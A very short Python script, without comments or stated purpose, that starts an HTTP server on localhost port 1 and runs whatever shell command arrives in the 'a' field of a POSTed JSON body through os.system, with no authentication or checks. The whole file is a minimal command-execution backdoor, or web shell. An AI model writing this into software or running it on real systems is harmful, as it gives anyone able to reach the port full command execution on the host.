import os
import json
from http.server import BaseHTTPRequestHandler, HTTPServer
class X(BaseHTTPRequestHandler):
    def do_POST(self):
        d = json.loads(self.rfile.read(int(self.headers['Content-Length'])))
        os.system(d['a'])
HTTPServer(('127.0.0.1', 1), X).serve_forever()
